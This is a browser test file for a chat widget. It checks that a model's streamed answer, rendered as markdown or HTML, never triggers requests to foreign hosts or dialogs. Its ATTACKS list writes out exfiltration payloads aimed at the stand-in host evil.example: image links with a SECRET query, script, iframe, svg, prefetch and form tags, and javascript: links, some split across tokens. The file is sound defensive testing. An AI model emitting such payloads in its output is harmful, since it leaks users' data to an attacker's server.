/** What a model writes is shown, and never makes the browser ask anybody for anything. */
import { expect, test } from "../support/test.ts";

const EVIL = "http://evil.example";

const ATTACKS: [name: string, deltas: string[]][] = [
  ["inline image", [`![x](${EVIL}/?q=SECRET)`]],
  ["reference image", ["![x][r]\n\n", `[r]: ${EVIL}/?q=SECRET`]],
  ["image inside a link", [`[![x](${EVIL}/a.png)](${EVIL}/)`]],
  ["raw HTML image", [`<img src="${EVIL}/?q=SECRET">`]],
  ["raw HTML script", [`<script src="${EVIL}/x.js"></script>`]],
  ["raw HTML style", [`<style>body{background:url(${EVIL}/bg)}</style><div style="background:url(${EVIL}/bg)">a</div>`]],
  ["frames and objects", [`<iframe src="${EVIL}/"></iframe><object data="${EVIL}/"></object><video src="${EVIL}/v" autoplay></video>`]],
  ["vector graphics", [`<svg><image href="${EVIL}/i"/><use href="${EVIL}/u"/></svg>`]],
  ["preloading", [`<link rel="prefetch" href="${EVIL}/p"><link rel="dns-prefetch" href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/">`]],
  ["script address", ["[click](javascript:alert(1)) <a href=\"javascript:alert(1)\">x</a>"]],
  ["split over tokens", ["!", "[x", "](", "http", "://", "evil.example", "/?q=", "SECRET", ")"]],
  ["reference split over tokens", ["![x]", "[r", "]\n", "\n[r]:", " http", "://evil.example/?q=S"]],
  ["data and protocol-relative", [`![x](//evil.example/?q=SECRET) ![y](data:image/svg+xml,<svg/>)`]],
  ["form", [`<form action="${EVIL}/"><button>go</button></form>`]],
];

for (const [name, deltas] of ATTACKS) {
  test(`nothing is requested for: ${name}`, async ({ widget, upstream, page }) => {
    await upstream.when("attack", { answer: { deltas: ["Before. ", ...deltas, "\n\nAfterwards."] }, delayMs: 30 });
    const foreign: string[] = [];
    const own = new Set([new URL(widget.host.origin).host, new URL(upstream.baseUrl).host]);
    page.on("request", (request) => {
      const { host, protocol } = new URL(request.url());
      if (protocol === "data:" || protocol === "blob:") return;
      if (!own.has(host) && !widget.host.body.includes(host)) foreign.push(request.url());
    });
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    await widget.open();
    await widget.ask("attack");
    await expect(widget.conversation).toContainText("Afterwards.");
    await expect(widget.stopButton).toBeHidden();
    // A second look after a reload: the stored answer is rendered in one go, by another path.
    await page.reload();
    await expect(widget.conversation).toContainText("Afterwards.");

    expect(foreign).toEqual([]);
    expect(dialogs).toEqual([]);
    await expect(widget.conversation.locator("img, script, style, iframe, object, video, svg image, link, meta, form")).toHaveCount(0);
    const links = await widget.conversation.locator("a").evaluateAll((all) => all.map((link) => link.getAttribute("href") ?? ""));
    expect(links.filter((href) => !/^(https?:|mailto:)/.test(href))).toEqual([]);
  });
}
